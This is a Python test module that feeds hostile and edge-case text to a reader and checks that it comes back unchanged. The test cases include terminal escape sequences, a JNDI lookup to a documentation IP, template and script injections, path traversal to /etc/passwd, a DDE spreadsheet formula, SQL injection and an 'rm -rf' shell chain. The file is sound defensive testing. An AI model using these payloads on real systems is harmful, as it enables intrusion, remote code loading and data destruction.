"""Words that are data: whatever a terminal, a template, a page or a program would make of them."""

from __future__ import annotations

from collections.abc import Iterator

from tests.hostile import NO, Case, failure, read, refused

EMPTY = "there is no text in it"


def said(words: str) -> str:
    """A sentence with ``words`` in it."""
    return f"The mayor of Harrowby wrote {words} on Monday, and the clerk kept it."


def as_it_is(name: str, words: str) -> Case:
    """A text that is read to the last character."""
    return read(name, said(words), said(words), whole=True)


@failure
def nothing_to_read() -> Iterator[Case]:
    """Files without a visible character."""
    for name, text in {
        "empty": "", "spaces": " \t\r\n" * 50, "wide-spaces": "\u00a0\u3000\u2003\u205f", "zero-width": "\u200b\u200d\u2060" * 9, "marks-alone": "\ufeff\u200e\u202e\u2069",
        "controls": "\r\n\x0b\x0c", "separators": "\u2028\u2029\x85", "hyphens": "\u00ad\u00ad",
    }.items():
        yield refused(f"{name}.txt", text, EMPTY)


@failure
def long_lines() -> Iterator[Case]:
    """One line, or one word, of millions of characters."""
    yield read("line.txt", lambda: (NO + " ") * 100_000)
    yield read("word.txt", lambda: "x" * 4_000_000, "xxxx")
    yield read("comma.txt", lambda: "no, " * 1_000_000, "no, no")
    yield read("signs.txt", lambda: "." * 3_000_000, "....")
    yield read("open-marks.txt", lambda: "\u201c" * 1_000_000, "\u201c")


@failure
def many_lines() -> Iterator[Case]:
    """A million paragraphs, or line ends alone."""
    yield read("paragraphs.txt", lambda: NO + "\n\n" + "no\n\n" * 1_000_000)
    yield read("ends.txt", lambda: NO + "\n" * 3_000_000)
    yield read("returns.txt", lambda: NO + "\r" * 2_000_000)
    yield read("mixed.txt", lambda: NO + "\r\n\n\r\x0b\x0c\u2028\u2029\x85" * 100_000)


@failure
def too_large() -> Iterator[Case]:
    """A file beyond the limit is refused by its size, whatever it is."""
    yield refused("text.txt", lambda: "x" * 5_000_001, "is too large (5.00 MB; the limit is 5.00 MB)")
    yield refused("picture.png", lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 6_000_000, "is too large")
    yield read("just-fits.txt", lambda: NO + "x" * (5_000_000 - len(NO)))


@failure
def piles_of_accents() -> Iterator[Case]:
    """A million marks on one letter."""
    yield read("marks.txt", lambda: said("a" + "\u0301" * 1_000_000), "The mayor")
    yield read("many-kinds.txt", lambda: said("a" + "".join(chr(0x300 + n % 0x6f) for n in range(200_000))), "The mayor")
    yield read("begins-with-mark.txt", "\u0301\u0308" + NO)
    yield read("jamo.txt", lambda: said("\u1100\u1161\u11a8" * 100_000), "The mayor")


@failure
def directions() -> Iterator[Case]:
    """Controls that turn the order of what is shown around."""
    yield as_it_is("override.txt", "\u202eon dias eh\u202c")
    yield as_it_is("isolates.txt", "\u2066\u2067\u2068 and no end")
    yield as_it_is("flood.txt", "\u202e\u202a" * 300)
    yield as_it_is("marks.txt", "\u200eno\u200f, \u061cno")
    yield read("in-page.html", f"<html><body><p>{said(chr(0x202e) + 'on')}</p></body></html>", "\u202eon")


@failure
def invisible_letters() -> Iterator[Case]:
    """Characters that cannot be seen, between the letters of words."""
    yield as_it_is("flood.txt", "\u200b".join("nothing at all"))
    yield as_it_is("joiners.txt", "n\u2060o\u200c \u00adye\u00ads")
    yield as_it_is("tags.txt", "no" + "".join(chr(0xE0000 + ord(letter)) for letter in "secret"))
    yield as_it_is("variants.txt", "n\ufe0fo\U000e0100")
    yield as_it_is("fillers.txt", "\u3164no\u115f\u1160\u2800")
    yield read("long.txt", lambda: said("\u200b" * 500_000), "The mayor")


@failure
def control_sequences() -> Iterator[Case]:
    """What colours, clears, renames or answers for a terminal."""
    for name, words in {
        "colour": "\x1b[31mno\x1b[0m", "clear": "\x1b[2J\x1b[H", "title": "\x1b]0;owned\x07", "link": "\x1b]8;;http://203.0.113.9\x1b\\no\x1b]8;;\x1b\\", "clipboard": "\x1b]52;c;bm8=\x07",
        "answer": "\x1b[6n\x1b[c\x05", "second-set": "\x9b31m\x9d0;x\x9c", "back": "yes\b\b\bno", "return": "yes\rno", "bell": "\a" * 3, "delete": "no\x7f\x7f", "shift": "\x0e\x0f",
        "unended": "\x1b[", "device": "\x1bP1$r\x1b\\", "private": "\x1b[?1049h",
    }.items():
        yield as_it_is(f"{name}.txt", words)


@failure
def formats_of_programs() -> Iterator[Case]:
    """Signs that a program's formatting would fill in."""
    for name, words in {"braces": "{} {0} {__class__} {0.__init__.__globals__}", "percent": "%s %n %d %(x)s %%", "dollar": "$HOME ${x} $(id) `id`", "rich": "[red]no[/red] [/] [link=file:///x]no[/link] :smile:"}.items():
        yield as_it_is(f"{name}.txt", words)


@failure
def templates() -> Iterator[Case]:
    """Signs that a template would run."""
    for name, words in {
        "jinja": "{{ 7*7 }} {% for x in y %} {# no #}", "erb": "<%= 7*7 %> <? no ?>", "handlebars": "{{{no}}} {{> no}}", "lookup": "${jndi:ldap://203.0.113.9/x}", "tex": "\\input{/etc/passwd} \\end{document}",
        "shortcode": "[gallery id=7] [embed]x[/embed]", "workflow": "::set-output name=x::no and ::error file=a::no ##vso[x]",
    }.items():
        yield as_it_is(f"{name}.txt", words)


@failure
def markup_in_words() -> Iterator[Case]:
    """Tags, scripts and ends of scripts that are words of the story."""
    for name, words in {
        "script": "<script>alert(1)</script> again", "end-of-script": "</script><script>1</script> again", "comment": "<!-- --> ]]> --!> again", "attribute": "\" onmouseover=\"x ' again",
        "reference": "&lt;b&gt; &amp;amp; &#60; again", "separators": "\u2028 and \u2029 again", "title": "</title></textarea></style> again",
    }.items():
        yield as_it_is(f"{name}.txt", words)


@failure
def paths_and_addresses() -> Iterator[Case]:
    """Words that look like a place on the disk or in the world."""
    for name, words in {"path": "../../etc/passwd and C:\\CON", "file": "file:///etc/passwd", "script": "javascript:alert(1)", "share": "\\\\203.0.113.9\\x", "option": "-o /dev/null --select=x", "at": "@/etc/passwd"}.items():
        yield as_it_is(f"{name}.txt", words)
    yield read("option-first.txt", f"--help\n{NO}\n", f"--help\n{NO}")


@failure
def formulas_and_queries() -> Iterator[Case]:
    """Words that a spreadsheet, a database or a shell would run."""
    for name, words in {"formula": "=cmd|' /C calc'!A0", "plus": "+1+1 @SUM(A1) -2", "query": "'; DROP TABLE story; --", "shell": "; rm -rf x && echo no | cat", "lines": "no\r\nSet-Cookie: x=1"}.items():
        yield as_it_is(f"{name}.txt", words)


@failure
def joined_pictures() -> Iterator[Case]:
    """Emoji of many code points, flags, and joiners without end."""
    yield as_it_is("family.txt", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f44d\U0001f3fd 1\ufe0f\u20e3")
    yield as_it_is("flags.txt", "\U0001f1ec\U0001f1e7\U0001f1eb \U0001f3f4\U000e0067\U000e0062\U000e007f")
    yield as_it_is("chain.txt", "\U0001f468\u200d" * 500)
    yield read("long.txt", lambda: said("\U0001f468\u200d" * 200_000), "The mayor")


@failure
def unassigned_characters() -> Iterator[Case]:
    """Private, unassigned and forbidden code points."""
    yield as_it_is("private.txt", "\ue000\uf8ff\U000f0000\U0010fffd")
    yield as_it_is("unassigned.txt", "\u0378\u0530\U000e0fff")
    yield as_it_is("noncharacters.txt", "\ufffe\uffff\ufdd0\U0001ffff\U0010ffff")
    yield as_it_is("replacement.txt", "\ufffd\ufffc\ufff9no\ufffa")


@failure
def ends_of_lines() -> Iterator[Case]:
    """Every sign that somebody takes for the end of a line."""
    for name, sign in {"next": "\x85", "line": "\u2028", "paragraph": "\u2029", "tab": "\x0b", "feed": "\x0c", "file": "\x1c\x1d", "old": "\r"}.items():
        yield as_it_is(f"{name}.txt", f"no{sign}and no")


@failure
def letters_that_grow() -> Iterator[Case]:
    """Characters whose other case, or plain form, is longer than they are: offsets must not slip."""
    yield as_it_is("cases.txt", "\u0130stanbul stra\u00dfe \ufb03x \u0149 \u1f80 \u1e9e")
    yield as_it_is("compatible.txt", "\ufdfa \u3300 \u2167 \u00bd \uff2e\uff2f")
    yield as_it_is("decomposed.txt", "cafe\u0301 \u212b \u1e9b\u0323 e\u0301\u0323 e\u0323\u0301")
    yield as_it_is("mathematics.txt", "\U0001d427\U0001d428 \u24dd\u24de")
    yield as_it_is("look-alikes.txt", "n\u043e, p\u0430ypal, \u0391\u0392")
    yield read("long.txt", lambda: said("\ufdfa" * 100_000), "The mayor")


@failure
def digits_of_the_world() -> Iterator[Case]:
    """Numbers that are huge, or written in signs that count as digits."""
    yield as_it_is("long.txt", "9" * 5_000 + " pounds")
    yield as_it_is("exponent.txt", "1e999999 pounds and 1,,,,1.1.1.1 pence")
    yield as_it_is("other-signs.txt", "\u0663\u0664 \u00b2\u00b3 \u2460 \u3007\u4e8c \U0001d7d8\U0001d7d9")
    yield as_it_is("fractions.txt", "1/0 and 0/0 and 99/99/9999 and 25:61")
    yield as_it_is("grouped.txt", "1" + ",000" * 2_000 + " pounds")


@failure
def marks_without_pairs() -> Iterator[Case]:
    """Quotation marks and brackets that open, and open, and never close."""
    yield as_it_is("quotes.txt", "\u201c\u201c\u2018\u201d\u00ab\u201e\"''\"")
    yield as_it_is("many.txt", "\u201cno " * 40)
    yield as_it_is("brackets.txt", "([{<" * 40)
    yield as_it_is("apostrophes.txt", "'" * 300)
